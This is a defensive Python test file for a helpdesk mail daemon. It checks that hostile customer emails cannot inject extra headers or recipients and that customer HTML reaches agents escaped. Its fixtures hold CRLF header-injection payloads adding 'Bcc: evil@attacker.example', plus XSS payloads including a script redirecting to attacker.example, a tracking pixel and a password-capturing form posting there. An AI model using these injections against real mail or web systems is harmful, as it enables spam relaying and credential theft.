"""Issue 10, injection: what a customer writes in a subject, a display name, an address or a
Message-ID never adds a header or a recipient to the mail ticketd sends (the acknowledgement
to the customer, the notification to the agent), and customer text arrives in the HTML part of a
notification escaped, never as active content.

End to end: smtplib delivers hand-made hostile bytes to the daemon, the relay (aiosmtpd) keeps
what ticketd sends, and each outgoing mail is parsed again to look at its envelope and headers.
"""

from __future__ import annotations

import re
import smtplib
from base64 import b64encode
from email.message import Message
from email.utils import getaddresses, parseaddr
from pathlib import Path

import pytest

from tests.daemon import DaemonProcess, Relay, daemon_config
from tests.helpers import DESK

pytestmark = pytest.mark.slow

AGENT = "ajan@destek.example.com"
TEAM = f"""
[[queues]]
name = "genel"
categories = ["payment", "other", "account", "bonus", "technical", "kyc", "complaint"]

[[agents]]
email = "{AGENT}"
name = "Ajan"
queues = ["genel"]

[agent_replies]
# Not about sender proof (tests/test_agents.py, tests/test_sender_auth.py): mail comes
# with no verdict at all, as through a server nobody verifies at.
require_authentication = false
"""
EVIL = "evil@attacker.example"
CRLF = "\r\n"
# Every header ticketd writes; anything else in an outgoing mail came from a customer.
OUR_HEADERS = {
    "from",
    "to",
    "subject",
    "reply-to",
    "date",
    "message-id",
    "in-reply-to",
    "references",
    "auto-submitted",
    "x-auto-response-suppress",
    "x-loop",
    "x-ticketd-ref",
    "content-type",
    "content-transfer-encoding",
    "mime-version",
}


def _mail(sender: str, subject: str, body: str, *, extra: str = "", html: bool = False) -> bytes:
    kind = "text/html" if html else "text/plain"
    head = (
        f"From: {sender}\r\nTo: {DESK}\r\nSubject: {subject}\r\n{extra}"
        f"MIME-Version: 1.0\r\nContent-Type: {kind}; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n"
    )
    return head.encode("utf-8") + body.encode("utf-8") + b"\r\n"


# (envelope sender, raw message): each a customer of its own, each trying another door.
HOSTILE = [
    (
        "c1@musteri.com.tr",
        _mail(
            "Ayse <c1@musteri.com.tr>",
            f"=?utf-8?q?Merhaba=0D=0ABcc:_{EVIL.replace('@', '=40')}?=",
            "Yardım <script>alert('xss')</script> lütfen",
            extra="Message-ID: <c1@musteri.com.tr>\r\n",
        ),
    ),
    (
        "c2@musteri.com.tr",
        _mail(
            f"=?utf-8?b?{b64encode(f'Ayşe{CRLF}Bcc: {EVIL}'.encode()).decode()}?= "
            "<c2@musteri.com.tr>",
            "Hesap",
            "Merhaba",
        ),
    ),
    (
        "c3@musteri.com.tr",
        _mail(
            "=?utf-8?q?Ali=00=0B=0CTo=3A_evil=40attacker.example=E2=80=A8Cc=3A_x=40y.example?= "
            "<c3@musteri.com.tr>",
            "=?utf-8?q?Bonus=0BBcc=3A_evil=40attacker.example=C2=85X-Evil=3A_1?=",
            "Bonus",
            # A Message-ID with a control character must not come back in In-Reply-To.
            extra="Message-ID: <c3\x0bBcc:evil@attacker.example>\r\n",
        ),
    ),
    (
        "c4@musteri.com.tr",
        _mail(
            '"Mehmet\\\r\n Bcc: evil@attacker.example" <c4@musteri.com.tr>',
            "Ödeme\r\n =?utf-8?q?=0D=0A=0D=0A<html>?=",
            "<p>Merhaba</p><script>document.location='https://attacker.example/'</script>"
            '<img src="https://tracker.attacker.example/pixel.gif">'
            '<form action="https://attacker.example/"><input name="password"></form>',
            html=True,
        ),
    ),
]
CUSTOMERS = {sender for sender, _ in HOSTILE}


@pytest.fixture
def desk(tmp_path: Path, relay: Relay) -> DaemonProcess:
    process = DaemonProcess(daemon_config(tmp_path, relay.port, extra=TEAM))
    process.start()
    try:
        with smtplib.SMTP("127.0.0.1", process.port, timeout=10) as client:
            for sender, raw in HOSTILE:
                client.sendmail(sender, [DESK], raw)
        # An acknowledgement to each customer and a notification to the agent for each.
        relay.wait_for(2 * len(HOSTILE))
    finally:
        assert process.stop() == 0, process.log()
    return process


def _header_names(raw: bytes) -> list[str]:
    head = raw.split(b"\r\n\r\n", 1)[0].decode("ascii")  # SMTP policy: all 7-bit
    return [line.split(":", 1)[0].lower() for line in head.split("\r\n") if line[:1] not in " \t"]


def test_no_customer_input_adds_a_header_or_a_recipient(desk: DaemonProcess, relay: Relay) -> None:
    received = relay.handler.received
    assert len(received) == 2 * len(HOSTILE)
    for mail_from, rcpt_tos, raw in received:
        assert mail_from in ("", "<>", DESK)
        assert len(rcpt_tos) == 1 and rcpt_tos[0] in CUSTOMERS | {AGENT}, rcpt_tos
        names = _header_names(raw)
        assert set(names) <= OUR_HEADERS, names
        assert names.count("to") == 1 and "cc" not in names and "bcc" not in names
        # No bare CR or LF, and no NUL, anywhere in the header block.
        head = raw.split(b"\r\n\r\n", 1)[0]
        assert b"\x00" not in head and not re.search(rb"\r(?!\n)|(?<!\r)\n", head)
    parsed = relay.handler.messages()
    for mail in parsed:
        to = getaddresses([str(v) for v in mail.get_all("To", [])])
        assert [addr for _, addr in to] in ([a] for a in CUSTOMERS | {AGENT})
        assert EVIL not in str(mail.get("In-Reply-To", "")) + str(mail.get("References", ""))
    acks = [m for m in parsed if parseaddr(str(m["To"]))[1] in CUSTOMERS]
    assert {parseaddr(str(m["To"]))[1] for m in acks} == CUSTOMERS  # nobody lost their answer


def _html_parts(mail: Message) -> list[str]:
    return [
        part.get_content()  # type: ignore[attr-defined]
        for part in mail.walk()
        if part.get_content_type() == "text/html"
    ]


def test_customer_text_is_escaped_in_the_notification_html(
    desk: DaemonProcess, relay: Relay
) -> None:
    notes = [m for m in relay.handler.messages() if parseaddr(str(m["To"]))[1] == AGENT]
    assert len(notes) == len(HOSTILE)
    html = "\n".join(h for m in notes for h in _html_parts(m))
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in html
    # The customer's own HTML is reduced to text: nothing in it runs, loads or submits.
    lowered = html.lower()
    for active in ("<script", "<img", "<form", "<input", "tracker.attacker.example/pixel"):
        assert active not in lowered, active
    assert "Merhaba" in html
